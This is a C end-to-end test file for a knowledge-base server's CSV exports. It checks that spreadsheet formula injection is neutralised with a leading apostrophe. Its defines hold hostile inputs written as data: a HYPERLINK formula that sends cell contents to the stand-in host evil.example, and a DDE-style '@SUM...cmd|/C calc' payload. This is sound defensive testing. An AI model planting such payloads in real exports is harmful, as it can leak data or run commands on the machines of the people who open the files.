/* test_csv_export.c -- CSV injection end to end: a search for a
 * spreadsheet formula and a case whose subject is one, through a real
 * kb-serve, come out of the queries and gaps CSV (over HTTP and from
 * kb-report --csv) as text cells prefixed with ', never as a cell that
 * begins with =, +, -, @, TAB or CR. */
#include "harness.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define EVIL_QUERY "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
/* The report groups queries case folded. */
#define EVIL_QUERY_CELL "'=hyperlink(\"http://evil.example/?x=\"&a1,\"click\")"
#define EVIL_SUBJECT "=HYPERLINK(\"http://evil.example/case\",\"open\")"
#define AT_SUBJECT "@SUM(1+1)*cmd|' /C calc'!A0"

static struct harness h = {0, 0};
static struct tu_server srv;
static char agent_auth[128]; /* "Authorization: Bearer ..." */

/* A parsed CSV: rows of cells (RFC 4180, CRLF). */
struct csv_row {
    char **cell;
    size_t n;
};
struct csv_table {
    struct csv_row *row;
    size_t n;
};

static void csv_free(struct csv_table *t)
{
    for (size_t i = 0; i < t->n; i++) {
        for (size_t j = 0; j < t->row[i].n; j++)
            free(t->row[i].cell[j]);
        free(t->row[i].cell);
    }
    free(t->row);
    t->row = NULL;
    t->n = 0;
}

static void csv_push_cell(struct csv_row *r, const char *s, size_t n)
{
    r->cell = realloc(r->cell, (r->n + 1) * sizeof *r->cell);
    r->cell[r->n] = malloc(n + 1);
    memcpy(r->cell[r->n], s, n);
    r->cell[r->n][n] = '\0';
    r->n++;
}

/* Parses text; returns 0, or -1 when it is not well-formed RFC 4180
 * (a quote inside an unquoted cell, an unterminated quote, a bare LF
 * or a last line without CRLF). */
static int csv_parse(const char *text, struct csv_table *t)
{
    const char *p = text;
    char *buf = malloc(strlen(text) + 1);
    size_t len;
    struct csv_row *r;

    memset(t, 0, sizeof *t);
    while (*p) {
        t->row = realloc(t->row, (t->n + 1) * sizeof *t->row);
        r = &t->row[t->n++];
        memset(r, 0, sizeof *r);
        for (;;) {
            len = 0;
            if (*p == '"') {
                for (p++;; p++) {
                    if (!*p)
                        goto bad;
                    if (*p == '"' && p[1] == '"') {
                        buf[len++] = '"';
                        p++;
                    } else if (*p == '"') {
                        p++;
                        break;
                    } else {
                        buf[len++] = *p;
                    }
                }
            } else {
                while (*p && *p != ',' && *p != '\r' && *p != '\n') {
                    if (*p == '"')
                        goto bad;
                    buf[len++] = *p++;
                }
            }
            csv_push_cell(r, buf, len);
            if (*p == ',') {
                p++;
                continue;
            }
            if (p[0] == '\r' && p[1] == '\n') {
                p += 2;
                break;
            }
            goto bad;
        }
    }
    free(buf);
    return 0;
bad:
    free(buf);
    csv_free(t);
    return -1;
}

/* The cell of column col in the row whose first cell is first. */
static const char *csv_get(const struct csv_table *t, const char *first, const char *col)
{
    size_t c, i;

    if (t->n == 0)
        return NULL;
    for (c = 0; c < t->row[0].n && strcmp(t->row[0].cell[c], col) != 0; c++)
        ;
    for (i = 1; i < t->n; i++)
        if (t->row[i].n > c && strcmp(t->row[i].cell[0], first) == 0)
            return t->row[i].cell[c];
    return NULL;
}

/* No cell of the table may begin like a formula, except numbers the
 * report wrote (only digits, one leading minus, a dot, an exponent). */
static void check_no_formula(const struct csv_table *t, const char *what)
{
    for (size_t i = 0; i < t->n; i++)
        for (size_t j = 0; j < t->row[i].n; j++) {
            const char *s = t->row[i].cell[j];
            if (!s[0] || !strchr("=+-@\t\r", s[0]))
                continue;
            if (s[0] == '-' && s[1] && strspn(s + 1, "0123456789.e+-") == strlen(s + 1))
                continue;
            h.failed++;
            fprintf(stderr, "%s: row %zu cell %zu begins like a formula: %s\n", what, i, j, s);
        }
}

/* What a queries or gaps CSV of this test must show. */
static void check_csv(const char *text, const char *which, const char *what)
{
    struct csv_table t;

    CHECK(&h, text != NULL);
    if (!text)
        return;
    /* The formula cell, as written: quoted, the prefix first. */
    CHECK_CONTAINS(&h, text, "\r\n\"'=hyperlink(\"\"http://evil.example/?x=");
    if (csv_parse(text, &t) != 0) {
        fprintf(stderr, "%s: not RFC 4180 CSV:\n%s\n", what, text);
        CHECK(&h, 0);
        return;
    }
    check_no_formula(&t, what);
    CHECK(&h, csv_get(&t, EVIL_QUERY_CELL, "count") != NULL);
    CHECK_STR_EQ(&h, csv_get(&t, EVIL_QUERY_CELL, "count"), "1");
    if (strcmp(which, "gaps") == 0) {
        /* A subject that begins the cell, and one later in the list. */
        CHECK_STR_EQ(&h, csv_get(&t, EVIL_QUERY_CELL, "cases"), "'" EVIL_SUBJECT);
        CHECK_STR_EQ(&h, csv_get(&t, "zzqxv wibblewobble", "cases"),
                     "Printer offline; '" AT_SUBJECT);
    }
    csv_free(&t);
}

/* One request as visit v; returns the status. */
static long as_visit(const char *v, const char *method, const char *path, const char *json)
{
    char hv[96];
    snprintf(hv, sizeof hv, "X-KB-Visit: %s", v);
    const char *hdrs[] = {hv, NULL};
    struct tu_response r;
    tu_http_h(&srv, method, path, json, json ? "application/json" : NULL, hdrs, &r);
    long st = r.status;
    if (st >= 400)
        fprintf(stderr, "%s %s -> %ld %s\n", method, path, st, r.body);
    tu_response_free(&r);
    return st;
}

/* GET path as the agent; returns the body (caller frees) on 200. */
static char *agent_csv(const char *path)
{
    const char *hdrs[] = {agent_auth, NULL};
    struct tu_response r;
    char *body = NULL;

    if (tu_http_h(&srv, "GET", path, NULL, NULL, hdrs, &r) != 0)
        return NULL;
    CHECK_INT_EQ(&h, r.status, 200);
    CHECK_CONTAINS(&h, r.headers, "text/csv");
    if (r.status == 200) {
        body = r.body;
        r.body = NULL;
    }
    tu_response_free(&r);
    return body;
}

static void log_visits(void)
{
    const char *A = "visit-csv-aaaaaaaaaaaa", *B = "visit-csv-bbbbbbbbbbbb";
    char q[512], path[600];

    tu_urlencode(EVIL_QUERY, q, sizeof q);
    snprintf(path, sizeof path, "/api/search?q=%s", q);
    CHECK_INT_EQ(&h, as_visit(A, "GET", path, NULL), 200);
    json_t *c = json_pack("{s:s, s:s}", "subject", EVIL_SUBJECT, "email", "a@example.com");
    char *cj = json_dumps(c, 0);
    CHECK_INT_EQ(&h, as_visit(A, "POST", "/api/cases", cj), 201);
    free(cj);
    json_decref(c);

    CHECK_INT_EQ(&h, as_visit(B, "GET", "/api/search?q=zzqxv+wibblewobble", NULL), 200);
    CHECK_INT_EQ(&h, as_visit(B, "POST", "/api/cases",
                              "{\"subject\":\"Printer offline\",\"email\":\"b@example.com\"}"),
                 201);
    c = json_pack("{s:s, s:s}", "subject", AT_SUBJECT, "email", "b@example.com");
    cj = json_dumps(c, 0);
    CHECK_INT_EQ(&h, as_visit(B, "POST", "/api/cases", cj), 201);
    free(cj);
    json_decref(c);
}

int main(void)
{
    char content[512], index[512], db[600];
    CHECK_INT_EQ(&h, tu_mkdtemp(content, sizeof content, "content"), 0);
    CHECK_INT_EQ(&h, tu_mkdtemp(index, sizeof index, "index"), 0);
    CHECK_INT_EQ(&h, tu_copy_tree(KB_SOURCE_DIR "/tests/data/kb", content), 0);
    snprintf(db, sizeof db, "%s/events.db", content);
    char *argv[] = {KB_INDEX_BIN, "--content", content, "--index", index, "--quiet", NULL};
    char *err = NULL;
    CHECK_INT_EQ(&h, tu_run(argv, NULL, &err), 0);
    free(err);
    char *token = tu_make_user(db, "agent1", "agent");
    CHECK(&h, token != NULL);
    snprintf(agent_auth, sizeof agent_auth, "Authorization: Bearer %s", token ? token : "");
    free(token);
    char *extra[] = {"--db", db, NULL};
    if (tu_server_start(&srv, index, extra) != 0) {
        CHECK(&h, 0);
        TEST_MAIN_END(&h);
    }
    log_visits();

    /* Over HTTP (the cases are acknowledged after their commit, which
     * carries the searches queued before them). */
    char *csv = agent_csv("/api/reports/queries?format=csv");
    check_csv(csv, "queries", "GET /api/reports/queries?format=csv");
    free(csv);
    csv = agent_csv("/api/reports/gaps?format=csv");
    check_csv(csv, "gaps", "GET /api/reports/gaps?format=csv");
    free(csv);
    CHECK_INT_EQ(&h, tu_server_stop(&srv), 0);

    /* From the shell. */
    static const char *const which[] = {"queries", "gaps"};
    for (size_t i = 0; i < 2; i++) {
        char *rargv[] = {KB_REPORT_BIN, "--db", db, (char *)which[i], "--csv", NULL};
        char *out = NULL;
        char what[64];
        snprintf(what, sizeof what, "kb-report %s --csv", which[i]);
        CHECK_INT_EQ(&h, tu_run(rargv, &out, NULL), 0);
        check_csv(out, which[i], what);
        free(out);
    }
    tu_rmrf(content);
    tu_rmrf(index);
    TEST_MAIN_END(&h);
}
